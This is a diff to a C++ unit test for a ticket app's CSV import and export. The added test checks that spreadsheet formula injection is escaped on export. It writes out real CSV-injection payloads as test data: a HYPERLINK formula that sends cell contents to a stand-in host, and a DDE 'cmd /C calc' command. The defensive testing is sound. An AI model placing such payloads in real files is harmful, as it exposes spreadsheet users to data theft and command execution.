@@ -332,6 +332,34 @@ void TestImportExport::exportsWithRedaction()
     QCOMPARE(conversations.size(), 2);
     QVERIFY(conversations.first().toObject().value(u"messages").toArray().first().toObject().contains(u"heat"));
     QCOMPARE(Exporter::redact(u"IBAN ES91 2100 0418 4502 0005 1332, mail x.y@example.com"_s), u"IBAN [iban], mail [email]"_s);
+
+    // CSV injection: a message a spreadsheet would run as a formula is written as text.
+    const QByteArray formulas = "Ticket ID,Description,Public\n77,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\",true\n"
+                                "78,@SUM(1+1)*cmd|' /C calc'!A0,false\n79,+34 600 000 000 call me,true\n";
+    QVERIFY(Importer(db, m_analyzer).importData(formulas, u"formulas.csv"_s, ImportFormat::Csv).ok);
+    QBuffer injected;
+    injected.open(QIODevice::WriteOnly);
+    QVERIFY(exporter.write(injected, {ExportFormat::Csv, false, {}}, &error) > 0);
+    const QByteArray csv = injected.data();
+    QVERIFY2(csv.contains("\"'=HYPERLINK("), csv.constData());
+    QVERIFY(csv.contains("\"'@SUM("));
+    QVERIFY(csv.contains("\"'+34 600"));
+    QVERIFY(!csv.contains(",=HYPERLINK") && !csv.contains(",@SUM") && !csv.contains(",+34"));
+    // A contact's name is the latest non-empty one they gave.
+    const QByteArray names = "Ticket ID,Description,Requester,Requester Email\n81,hi,Ana,ana.l@example.com\n82,again,,ana.l@example.com\n"
+                             "83,thanks,Ana López,ana.l@example.com\n";
+    QVERIFY(Importer(db, m_analyzer).importData(names, u"names.csv"_s, ImportFormat::Csv).ok);
+    for (const ConversationSummary &c : ConversationStore(db).inbox({.nowMs = 1'800'000'000'000})) {
+        if (c.externalId == u"81" || c.externalId == u"82" || c.externalId == u"83")
+            QCOMPARE(c.customer, u"Ana López"_s);
+    }
+    // A "Public" true/false column says whether a note is public, not who wrote it.
+    const ConversationStore store(db);
+    for (const QString &ticket : {u"77"_s, u"78"_s}) {
+        const auto id = store.conversationByExternalId(ticket);
+        QVERIFY(id);
+        QCOMPARE(store.messages(*id).first().direction, u"customer"_s);
+    }
 }
 
 void TestImportExport::demoData()
